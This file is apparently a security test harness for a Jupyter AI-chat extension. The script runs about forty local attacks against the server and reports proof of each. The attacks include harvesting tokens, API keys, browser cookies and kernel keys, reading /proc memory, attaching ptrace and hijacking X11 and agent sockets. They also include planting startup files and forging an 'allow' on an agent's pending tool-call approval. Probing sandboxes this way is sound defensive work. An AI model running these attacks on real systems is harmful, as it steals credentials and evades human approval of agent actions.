"""A program that wants what belongs to the Jupyter server; it is told where everything is.

    python hostile.py HINTS

*HINTS* is JSON: the folders of `servers.Dirs`, `url`, `pid` (of the server), `prefix` (of its environment),
`socket`, `abstract`, `hub` (its address), `desktops` and `agents` (folders), and `waiting`: a chat whose call
waits for an approval. Prints what it got as JSON: names of attacks, with a proof of each. Imports nothing of
ours.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import json
import os
import re
import signal
import socket
import sqlite3
import struct
import sys
import tempfile
import urllib.request
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

HINTS: dict[str, Any] = {}
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SECRETS = re.compile(r"(?:API_KEY|API_TOKEN)=\S+")
HUB_TOKEN = re.compile(r"JUPYTERHUB_API_TOKEN=(\S+)")


def place(name: str, *below: str) -> Path:
    return Path(HINTS[name], *below)


def read_all(pattern: str) -> str:
    """Return the contents of all files that match and can be read."""
    texts: list[str] = []
    for path in glob.glob(pattern):
        with contextlib.suppress(OSError):
            texts.append(Path(path).read_bytes().decode("utf-8", "replace"))
    return "\n".join(texts)


def in_desktops(name: str) -> list[str]:
    """Return files of that name in the folders of desktops."""
    return [path for place in HINTS["desktops"] for path in glob.glob(f"{place}/chatd-desktop-*/{name}")]


def request(path: str, token: str, body: object = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": f"token {token}", "Content-Type": "application/json"}
    with urllib.request.urlopen(
        urllib.request.Request(f"{HINTS['url']}{path}", data, headers), timeout=5
    ) as reply:
        return json.load(reply)


def tokens() -> Iterator[str]:
    found = read_all(f"{place('runtime')}/jpserver-*.json") + read_all(str(place("root", "server.log")))
    found += read_all("/proc/*/environ") + read_all("/proc/*/cmdline")
    yield from re.findall(r"token\"?[=:]\s*\"?([0-9a-zA-Z-]{8,})", found)


# The attacks: each returns a proof, or nothing


def token_of_the_runtime_file() -> str:
    return json.loads(read_all(f"{place('runtime')}/jpserver-*.json"))["token"]


def token_of_the_log() -> str:
    return re.findall(r"token=([0-9a-f]{16,})", read_all(str(place("root", "server.log"))))[0]


def token_of_another_server() -> str:
    return place("data", "runtime", "jpserver-1.json").read_text()


def cookie_secret() -> str:
    return place("runtime", "jupyter_cookie_secret").read_text()


def configuration() -> str:
    return place("config", "jupyter_server_config.json").read_text()


def approval() -> str:
    waiting = HINTS["waiting"]
    for token in set(tokens()):
        with contextlib.suppress(OSError):
            body = {**waiting["call"], "decision": "allow"}
            return request(f"api/experimental/chats/{waiting['chat']}/approvals", token, body)["id"]
    return ""


def environment() -> str:
    return "\n".join(SECRETS.findall(read_all("/proc/*/environ").replace("\0", "\n")))


def environment_of_the_server() -> str:
    return "\n".join(SECRETS.findall(read_all(f"/proc/{HINTS['pid']}/environ").replace("\0", "\n")))


def the_hub() -> str:
    """Ask the hub who is let in, as the user's server may."""
    own = "".join(f"{name}={value}\n" for name, value in os.environ.items())
    for token in set(HUB_TOKEN.findall(own + read_all("/proc/*/environ").replace("\0", "\n"))):
        with contextlib.suppress(OSError):
            asked = urllib.request.Request(HINTS["hub"], headers={"Authorization": f"token {token}"})
            with urllib.request.urlopen(asked, timeout=5) as reply:
                return reply.read().decode()
    return ""


def command_line() -> str:
    return read_all(f"/proc/{HINTS['pid']}/cmdline")


def chats() -> str:
    with contextlib.closing(sqlite3.connect(f"file:{place('database')}?mode=ro", uri=True)) as db:
        return str(db.execute("SELECT id FROM chats").fetchall() or "")


def change_of_the_chats() -> str:
    with contextlib.closing(sqlite3.connect(f"file:{place('database')}?mode=rw", uri=True)) as db, db:
        db.execute("CREATE TABLE hostile (x)")
        db.execute("DROP TABLE hostile")
    return "changed"


def chats_through_descriptors() -> str:
    for link in glob.glob("/proc/*/fd/*"):
        with contextlib.suppress(OSError):
            if os.readlink(link).endswith("chats.db"):
                return Path(link).read_bytes()[:15].decode()
    return ""


def descriptors_of_the_server() -> str:
    return " ".join(os.listdir(f"/proc/{HINTS['pid']}/fd"))


def memory_of_the_server() -> str:
    """Read the beginning of its first mapping."""
    start = int(Path(f"/proc/{HINTS['pid']}/maps").read_text().partition("-")[0], 16)
    with open(f"/proc/{HINTS['pid']}/mem", "rb") as memory:
        memory.seek(start)
        return memory.read(16).hex()


def chats_through_root() -> str:
    return read_all(f"/proc/[0-9]*/root{place('database')}")[:15]


def key_file() -> str:
    return place("data", "jupyter_chatd", "keys.json").read_text()


def a_file_among_the_chats() -> str:
    """As one that says which files of projects are trusted."""
    return _new_file(place("data", "jupyter_chatd"))


def token_of_a_workspace() -> str:
    """Of its agent, which does all that one asks of it."""
    return read_all(f"{HINTS['agents']}/*/token")


def socket_of_a_workspace() -> str:
    return _connect_one(path for path in glob.glob(f"{HINTS['agents']}/*/*") if Path(path).is_socket())


def key_of_trusted_notebooks() -> str:
    return place("data", "notebook_secret").read_bytes().hex()


def cookies_of_the_browser() -> str:
    return place("home", ".mozilla", "cookies.sqlite").read_text()


def a_kernel() -> str:
    """Run code in a notebook's kernel, which nothing confines."""
    from jupyter_client.blocking.client import BlockingKernelClient

    (connection,) = glob.glob(f"{place('runtime')}/kernel-*.json")
    client = BlockingKernelClient(connection_file=connection)
    client.load_connection_file()
    client.start_channels()
    try:
        client.wait_for_ready(timeout=30)
        told: list[str] = []
        code = "import os; print(os.environ['SOME_API_KEY'])"
        client.execute_interactive(
            code, timeout=30, output_hook=lambda m: told.append(m["content"].get("text", ""))
        )
        return "".join(told)
    finally:
        client.stop_channels()


def key_of_a_kernel() -> str:
    return json.loads(read_all(f"{place('runtime')}/kernel-*.json"))["key"]


def the_desktop() -> str:
    """Speak with the chat's desktop, whose programs nothing confines."""
    for address in in_desktops("rfb.socket"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(5)
            sock.connect(address)
            if said := sock.recv(12).decode():
                return said
    return ""


def the_display() -> str:
    """Be let in by an X server, with a cookie that is found in its desktop's folder."""
    for path in in_desktops("Xauthority"):
        cookie = Path(path).read_bytes()[-16:]
        for address in glob.glob("/tmp/.X11-unix/X*"):
            for one in (address, f"\0{address}"):
                with contextlib.suppress(OSError, struct.error):
                    return _open_display(one, cookie)
    return ""


def _open_display(address: str, cookie: bytes) -> str:
    """Return the version of the protocol that an X server speaks, once it has taken the cookie."""
    name = b"MIT-MAGIC-COOKIE-1"
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(5)
        sock.connect(address)
        sock.sendall(
            struct.pack("<BxHHHHxx", ord("l"), 11, 0, len(name), len(cookie)) + name + b"\0\0" + cookie
        )
        is_in, major, minor = struct.unpack("<BxHH", sock.recv(6))
    if is_in != 1:
        raise ConnectionRefusedError
    return f"{major}.{minor}"


def signals() -> str:
    os.kill(HINTS["pid"], signal.SIGCONT)
    return "sent"


def debugger() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, HINTS["pid"], None, None) != 0:
        return ""
    os.waitpid(HINTS["pid"], 0)
    libc.ptrace(PTRACE_DETACH, HINTS["pid"], None, None)
    return "attached"


def program_of_the_kernel() -> str:
    """What runs outside as root when a process crashes."""
    with open("/proc/sys/kernel/core_pattern", "r+") as file:
        return file.read()


def socket_of_another_program() -> str:
    return _connect(HINTS["socket"])


def abstract_socket() -> str:
    return _connect(f"\0{HINTS['abstract']}")


def _connect(address: str) -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(address)
    return "connected"


def _connect_one(addresses: Iterable[str]) -> str:
    for address in addresses:
        with contextlib.suppress(OSError):
            return _connect(address)
    return ""


def code_of_the_environment() -> str:
    return _new_file(place("prefix", "lib"))


def programs() -> str:
    return _new_file(place("prefix", "bin"))


def a_kernel_of_its_own() -> str:
    return _new_file(place("data", "kernels"))


def an_extension_of_the_front_end() -> str:
    return _new_file(place("data", "labextensions"))


def startup_of_kernels() -> str:
    return _new_file(place("home", ".ipython", "profile_default", "startup"))


def startup_of_shells() -> str:
    return _appended(place("home", ".bashrc"))


def configuration_of_the_next_server() -> str:
    return _new_file(place("config"))


def chats_under_another_name() -> str:
    """Move a folder away that holds what is hidden, for the next command."""
    moved = place("root", "moved")
    os.rename(place("data"), moved)
    os.rename(moved, place("data"))
    return "moved"


def _new_file(folder: Path) -> str:
    folder.mkdir(parents=True, exist_ok=True)
    with tempfile.NamedTemporaryFile(dir=folder, prefix="hostile-") as file:
        return file.name


def _appended(path: Path) -> str:
    with path.open("a") as file:
        file.write("# hostile\n")
    return str(path)


ATTACKS: tuple[Callable[[], str], ...] = (
    *(token_of_the_runtime_file, token_of_the_log, token_of_another_server, cookie_secret, configuration),
    *(environment, environment_of_the_server, the_hub, command_line),
    *(descriptors_of_the_server, memory_of_the_server, signals, debugger, program_of_the_kernel),
    *(chats, change_of_the_chats, chats_through_descriptors, chats_through_root, key_file),
    *(a_file_among_the_chats, token_of_a_workspace, socket_of_a_workspace, the_desktop, the_display),
    *(key_of_trusted_notebooks, cookies_of_the_browser, a_kernel, key_of_a_kernel),
    *(socket_of_another_program, abstract_socket, code_of_the_environment, programs, a_kernel_of_its_own),
    *(an_extension_of_the_front_end, startup_of_kernels, startup_of_shells),
    *(configuration_of_the_next_server, chats_under_another_name, approval),
)


def main() -> None:
    HINTS.update(json.loads(sys.argv[1]))
    got: dict[str, str] = {}
    for attack in ATTACKS:
        try:
            proof = attack()
        except Exception:  # noqa: BLE001 - an attack that fails in whatever way got nothing
            continue
        if proof:
            got[attack.__name__] = proof[:200]
    json.dump(got, sys.stdout, indent=1)  # the result of a command has no long lines


if __name__ == "__main__":
    main()
